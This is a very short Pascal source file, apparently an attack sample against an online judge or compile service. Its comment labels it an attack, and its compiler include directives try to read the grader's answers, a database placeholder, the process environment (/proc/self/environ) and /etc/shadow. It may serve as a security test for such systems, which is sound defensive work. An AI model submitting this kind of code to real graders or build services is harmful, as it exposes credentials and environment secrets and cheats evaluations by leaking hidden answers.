// attack: includes the answers, the database, environments, devices
program own;
{$I @ANSWER@}
{$I @DATABASE@}
{$I /proc/self/environ}
{$I /etc/shadow}
begin
end.
